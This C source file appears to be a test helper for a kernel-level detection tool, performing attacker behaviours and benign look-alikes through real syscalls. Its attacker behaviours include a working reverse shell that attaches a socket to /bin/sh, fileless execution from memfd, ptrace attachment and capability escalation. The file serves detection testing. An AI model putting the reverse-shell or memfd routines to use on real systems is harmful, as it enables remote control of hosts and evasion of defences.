/* nwbehave: one attacker behaviour (or its benign look-alike) per subcommand, done with the real
 * syscalls, so the behaviour tests can make the kernel see exactly what an attacker's tool would.
 *
 * Built static (tests/behaviours/build.py) so the same binary runs on the host and inside a busybox
 * container. Every subcommand exits 0 when it did its behaviour, or prints one line saying why not
 * and exits 1 (2 for a usage error). A subcommand whose behaviour is the attempt itself (module-load:
 * the kernel refuses garbage) exits 0 on the refusal and prints the errno it got.
 *
 * Before doing anything each subcommand prints "pid N" on stdout, so a test can find its records
 * by pid without racing the exec record. Nothing here touches anything outside loopback, its own
 * namespaces, or the paths it is given.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/capability.h>
#include <linux/if_ether.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

extern char **environ;

#define NOBODY 65534

static const char *sub = "nwbehave";

static int fail(const char *what)
{
    fprintf(stderr, "nwbehave %s: %s: %s\n", sub, what, strerror(errno));
    return 1;
}

static int usage(const char *args)
{
    fprintf(stderr, "usage: nwbehave %s %s\n", sub, args);
    return 2;
}

static int need(int argc, int n, const char *args)
{
    return argc < n ? usage(args) : 0;
}

/* A child that waits to be killed: the target of ptrace-attach. */
static pid_t sleeper(void)
{
    pid_t pid = fork();
    if (pid == 0) {
        for (;;)
            pause();
    }
    return pid;
}

static void reap(pid_t pid)
{
    kill(pid, SIGKILL);
    waitpid(pid, NULL, 0);
}

/* ptrace(request) on a fresh child: ATTACH (16) or SEIZE (0x4206), then detach. */
static int ptrace_child(int request)
{
    pid_t pid = sleeper();
    if (pid < 0)
        return fail("fork");
    if (ptrace(request, pid, 0, 0) != 0) {
        int rc = fail(request == PTRACE_SEIZE ? "PTRACE_SEIZE" : "PTRACE_ATTACH");
        reap(pid);
        return rc;
    }
    if (request == PTRACE_ATTACH)
        waitpid(pid, NULL, 0); /* the attach stop, before a detach is allowed */
    else {
        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
        waitpid(pid, NULL, 0);
    }
    ptrace(PTRACE_DETACH, pid, 0, 0);
    reap(pid);
    return 0;
}

/* The real uid becomes nobody while the saved uid stays 0: the state of a setuid-root program that
 * dropped its effective uid. setuid(0) then succeeds without any capability (0 is the saved uid), as
 * it would in an exploited setuid binary: a non-root caller whose setuid(0) returns 0. */
static int setuid_root(void)
{
    if (getuid() == 0 && setresuid(NOBODY, NOBODY, 0) != 0)
        return fail("setresuid(65534, 65534, 0)");
    if (setuid(0) != 0)
        return fail("setuid(0)");
    printf("uid %d euid %d\n", (int)getuid(), (int)geteuid());
    return 0;
}

/* The benign look-alike: a daemon dropping root for nobody. */
static int setuid_drop(void)
{
    if (setgid(NOBODY) != 0)
        return fail("setgid(65534)");
    if (setuid(NOBODY) != 0)
        return fail("setuid(65534)");
    return 0;
}

static int capset_to(uint64_t effective, int drop_uid)
{
    struct __user_cap_header_struct hdr = {_LINUX_CAPABILITY_VERSION_3, 0};
    struct __user_cap_data_struct data[2];

    if (drop_uid && getuid() == 0) {
        /* keep the permitted set across the uid change, so nobody may raise it into effective */
        if (prctl(PR_SET_KEEPCAPS, 1, 0, 0, 0) != 0)
            return fail("PR_SET_KEEPCAPS");
        if (setresuid(NOBODY, NOBODY, NOBODY) != 0)
            return fail("setresuid(65534)");
    }
    if (syscall(SYS_capget, &hdr, data) != 0)
        return fail("capget");
    data[0].effective = (uint32_t)effective & data[0].permitted;
    data[1].effective = (uint32_t)(effective >> 32) & data[1].permitted;
    if (syscall(SYS_capset, &hdr, data) != 0)
        return fail("capset");
    return 0;
}

#define CAPBIT(c) (1ULL << (c))

static int module_load(void)
{
    int fd = open("/dev/null", O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return fail("open /dev/null");
    /* /dev/null is no module: the kernel refuses it (EINVAL, or EPERM without CAP_SYS_MODULE) */
    long rc = syscall(SYS_finit_module, fd, "", 0);
    printf("finit_module %ld errno %d %s\n", rc, rc ? errno : 0, rc ? strerror(errno) : "");
    close(fd);
    return 0;
}

static int module_init(void)
{
    static const char junk[64] = "not an ELF module";
    long rc = syscall(SYS_init_module, junk, sizeof junk, "");
    printf("init_module %ld errno %d %s\n", rc, rc ? errno : 0, rc ? strerror(errno) : "");
    return 0;
}

static int mount_tmpfs(const char *dir)
{
    if (mount("nwbehave", dir, "tmpfs", MS_NOSUID | MS_NODEV, "size=1m") != 0)
        return fail("mount tmpfs");
    if (umount2(dir, 0) != 0)
        return fail("umount");
    return 0;
}

static int do_unshare(int flags, const char *what)
{
    if (unshare(flags) != 0)
        return fail(what);
    return 0;
}

static int do_setns(const char *path)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return fail("open namespace");
    if (setns(fd, 0) != 0)
        return fail("setns");
    close(fd);
    return 0;
}

/* A copy of this very program in an anonymous memory file, run from there: fileless execution. */
static int memfd_exec(int do_exec)
{
    int fd = (int)syscall(SYS_memfd_create, "nwbehave", MFD_CLOEXEC);
    if (fd < 0)
        return fail("memfd_create");
    int self = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    if (self < 0)
        return fail("open /proc/self/exe");
    char buf[65536];
    ssize_t n;
    while ((n = read(self, buf, sizeof buf)) > 0) {
        if (write(fd, buf, (size_t)n) != n)
            return fail("write memfd");
    }
    if (n < 0)
        return fail("read /proc/self/exe");
    close(self);
    if (!do_exec)
        return 0;
    char *argv[] = {"nwbehave", "noop", NULL};
    fflush(stdout);
    fexecve(fd, argv, environ);
    return fail("fexecve");
}

static int open_socket(int family, int type, int protocol, const char *what)
{
    int s = socket(family, type, protocol);
    if (s < 0)
        return fail(what);
    close(s);
    return 0;
}

static int tcp_connect(const char *host, const char *port)
{
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port))};
    if (inet_pton(AF_INET, host, &sa.sin_addr) != 1) {
        errno = EINVAL;
        fail("an IPv4 address is needed");
        return -1;
    }
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (s < 0) {
        fail("socket");
        return -1;
    }
    if (connect(s, (struct sockaddr *)&sa, sizeof sa) != 0) {
        fail("connect");
        close(s);
        return -1;
    }
    return s;
}

/* The classic: a connected socket as the shell's stdin, stdout and stderr. The shell runs one
 * command and exits, so the test's listener reads "hi" and the run ends. */
static int reverse_shell(const char *host, const char *port)
{
    int s = tcp_connect(host, port);
    if (s < 0)
        return 1;
    fflush(stdout);
    for (int fd = 0; fd < 3; fd++) {
        if (dup2(s, fd) < 0)
            return fail("dup2");
    }
    close(s);
    execl("/bin/sh", "sh", "-c", "echo hi", (char *)NULL);
    return fail("exec /bin/sh");
}

/* Look-alike: a socket dup'ed onto a high fd (what servers and libraries do), never onto stdio. */
static int dup_socket_high(const char *host, const char *port)
{
    int s = tcp_connect(host, port);
    if (s < 0)
        return 1;
    if (dup2(s, 10) < 0)
        return fail("dup2");
    if (write(10, "hi\n", 3) != 3)
        return fail("write");
    close(10);
    close(s);
    return 0;
}

/* Look-alike: a pipe onto stdout, what every shell pipeline does. */
static int dup_pipe(void)
{
    int p[2];
    if (pipe(p) != 0)
        return fail("pipe");
    int saved = dup(1);
    if (dup2(p[1], 1) < 0)
        return fail("dup2");
    dup2(saved, 1);
    close(saved);
    close(p[0]);
    close(p[1]);
    return 0;
}

static int udp_send(const char *host, const char *port, int connected)
{
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port))};
    if (inet_pton(AF_INET, host, &sa.sin_addr) != 1) {
        errno = EINVAL;
        return fail("an IPv4 address is needed");
    }
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    if (s < 0)
        return fail("socket");
    ssize_t n;
    if (connected) {
        if (connect(s, (struct sockaddr *)&sa, sizeof sa) != 0)
            return fail("connect");
        n = send(s, "nwbehave\n", 9, 0);
    } else {
        n = sendto(s, "nwbehave\n", 9, 0, (struct sockaddr *)&sa, sizeof sa);
    }
    if (n != 9)
        return fail("send");
    close(s);
    return 0;
}

/* The smallest socket filter there is (r0 = 0; exit), loaded through the bpf syscall. */
static int bpf_load(void)
{
    struct bpf_insn insns[] = {
        {.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0, .imm = 0},
        {.code = BPF_JMP | BPF_EXIT},
    };
    union bpf_attr attr;
    memset(&attr, 0, sizeof attr);
    attr.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
    attr.insns = (uint64_t)(uintptr_t)insns;
    attr.insn_cnt = 2;
    attr.license = (uint64_t)(uintptr_t) "GPL";
    strncpy(attr.prog_name, "nwbehave", sizeof attr.prog_name - 1);
    int fd = (int)syscall(SYS_bpf, BPF_PROG_LOAD, &attr, sizeof attr);
    if (fd < 0)
        return fail("BPF_PROG_LOAD");
    close(fd);
    return 0;
}

static int open_path(const char *path, int flags, const char *what)
{
    int fd = open(path, flags | O_CLOEXEC);
    if (fd < 0)
        return fail(what);
    if ((flags & O_ACCMODE) == O_RDONLY) {
        char buf[512];
        if (read(fd, buf, sizeof buf) < 0)
            return fail("read");
    }
    close(fd);
    return 0;
}

/* fork + exec + wait: run PROG as a child of this program (whatever name this copy has). */
static int spawn(char **argv)
{
    fflush(stdout);
    pid_t pid = fork();
    if (pid < 0)
        return fail("fork");
    if (pid == 0) {
        execv(argv[0], argv);
        fail("exec");
        _exit(127);
    }
    int status;
    if (waitpid(pid, &status, 0) < 0)
        return fail("waitpid");
    return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
}

static const char *const help =
    "nwbehave SUBCOMMAND [ARGS]: one attacker behaviour, or its benign look-alike\n"
    "  noop                         do nothing\n"
    "  ptrace-attach | ptrace-seize attach to a child of its own, then detach\n"
    "  ptrace-traceme               PTRACE_TRACEME (anti-debugging)\n"
    "  setuid-root                  as a non-root caller, setuid(0) that succeeds (saved uid 0)\n"
    "  setuid-drop                  (benign) root drops to nobody\n"
    "  capset                       as nobody, raise CAP_SYS_ADMIN/PTRACE/MODULE/DAC_READ_SEARCH\n"
    "  capset-bind                  (benign) as nobody, raise only CAP_NET_BIND_SERVICE\n"
    "  module-load | module-init    finit_module(/dev/null) | init_module(junk): refused, reported\n"
    "  mount-tmpfs DIR              mount a tmpfs on DIR and unmount it\n"
    "  unshare-net | unshare-mnt    a new network | mount namespace for this process\n"
    "  setns-self | setns PATH      join /proc/self/ns/net | the namespace at PATH\n"
    "  memfd-exec                   run a copy of itself from a memfd (then: noop)\n"
    "  memfd-noexec                 (benign) create and fill a memfd, never run it\n"
    "  packet-socket | raw-socket   AF_PACKET SOCK_RAW | AF_INET SOCK_RAW ICMP\n"
    "  tcp-socket | udp-socket      (benign) ordinary sockets\n"
    "  reverse-shell HOST PORT      connect, dup2 onto 0 1 2, exec /bin/sh -c 'echo hi'\n"
    "  dup-socket-high HOST PORT    (benign) connect, dup2 onto fd 10\n"
    "  dup-pipe                     (benign) dup2 a pipe onto stdout\n"
    "  udp-send HOST PORT           sendto on an unconnected UDP socket\n"
    "  udp-connected-send HOST PORT (benign) connect, then send\n"
    "  bpf-load                     load a 2-instruction socket filter\n"
    "  symlink TARGET LINK | hardlink TARGET LINK\n"
    "  read PATH | write PATH | truncate PATH   open (read | write, no change | O_TRUNC)\n"
    "  spawn PROG [ARGS]            fork, exec PROG, wait: PROG's parent has this program's name\n";

int main(int argc, char **argv)
{
    if (argc < 2 || !strcmp(argv[1], "-h") || !strcmp(argv[1], "--help")) {
        fputs(help, argc < 2 ? stderr : stdout);
        return argc < 2 ? 2 : 0;
    }
    sub = argv[1];
    printf("pid %d\n", (int)getpid());
    fflush(stdout);
    argc -= 1;
    argv += 1;
    int rc;

#define IS(name) (!strcmp(sub, name))
    if (IS("noop"))
        return 0;
    if (IS("ptrace-attach"))
        return ptrace_child(PTRACE_ATTACH);
    if (IS("ptrace-seize"))
        return ptrace_child(PTRACE_SEIZE);
    if (IS("ptrace-traceme"))
        return ptrace(PTRACE_TRACEME, 0, 0, 0) ? fail("PTRACE_TRACEME") : 0;
    if (IS("setuid-root"))
        return setuid_root();
    if (IS("setuid-drop"))
        return setuid_drop();
    if (IS("capset"))
        return capset_to(CAPBIT(CAP_SYS_ADMIN) | CAPBIT(CAP_SYS_PTRACE) | CAPBIT(CAP_SYS_MODULE) |
                             CAPBIT(CAP_DAC_READ_SEARCH),
                         1);
    if (IS("capset-bind"))
        return capset_to(CAPBIT(CAP_NET_BIND_SERVICE), 1);
    if (IS("module-load"))
        return module_load();
    if (IS("module-init"))
        return module_init();
    if (IS("mount-tmpfs"))
        return (rc = need(argc, 2, "DIR")) ? rc : mount_tmpfs(argv[1]);
    if (IS("unshare-net"))
        return do_unshare(CLONE_NEWNET, "unshare(CLONE_NEWNET)");
    if (IS("unshare-mnt"))
        return do_unshare(CLONE_NEWNS, "unshare(CLONE_NEWNS)");
    if (IS("setns-self"))
        return do_setns("/proc/self/ns/net");
    if (IS("setns"))
        return (rc = need(argc, 2, "PATH")) ? rc : do_setns(argv[1]);
    if (IS("memfd-exec"))
        return memfd_exec(1);
    if (IS("memfd-noexec"))
        return memfd_exec(0);
    if (IS("packet-socket"))
        return open_socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL), "socket(AF_PACKET)");
    if (IS("raw-socket"))
        return open_socket(AF_INET, SOCK_RAW, IPPROTO_ICMP, "socket(SOCK_RAW)");
    if (IS("tcp-socket"))
        return open_socket(AF_INET, SOCK_STREAM, 0, "socket(SOCK_STREAM)");
    if (IS("udp-socket"))
        return open_socket(AF_INET, SOCK_DGRAM, 0, "socket(SOCK_DGRAM)");
    if (IS("reverse-shell"))
        return (rc = need(argc, 3, "HOST PORT")) ? rc : reverse_shell(argv[1], argv[2]);
    if (IS("dup-socket-high"))
        return (rc = need(argc, 3, "HOST PORT")) ? rc : dup_socket_high(argv[1], argv[2]);
    if (IS("dup-pipe"))
        return dup_pipe();
    if (IS("udp-send"))
        return (rc = need(argc, 3, "HOST PORT")) ? rc : udp_send(argv[1], argv[2], 0);
    if (IS("udp-connected-send"))
        return (rc = need(argc, 3, "HOST PORT")) ? rc : udp_send(argv[1], argv[2], 1);
    if (IS("bpf-load"))
        return bpf_load();
    if (IS("symlink"))
        return (rc = need(argc, 3, "TARGET LINK")) ? rc : (symlink(argv[1], argv[2]) ? fail("symlink") : 0);
    if (IS("hardlink"))
        return (rc = need(argc, 3, "TARGET LINK")) ? rc : (link(argv[1], argv[2]) ? fail("link") : 0);
    if (IS("read"))
        return (rc = need(argc, 2, "PATH")) ? rc : open_path(argv[1], O_RDONLY, "open for read");
    if (IS("write"))
        return (rc = need(argc, 2, "PATH")) ? rc : open_path(argv[1], O_WRONLY, "open for write");
    if (IS("truncate"))
        return (rc = need(argc, 2, "PATH")) ? rc : open_path(argv[1], O_WRONLY | O_TRUNC, "open O_TRUNC");
    if (IS("spawn"))
        return (rc = need(argc, 2, "PROG [ARGS]")) ? rc : spawn(argv + 1);
#undef IS
    fprintf(stderr, "nwbehave: unknown subcommand %s (nwbehave --help lists them)\n", sub);
    return 2;
}
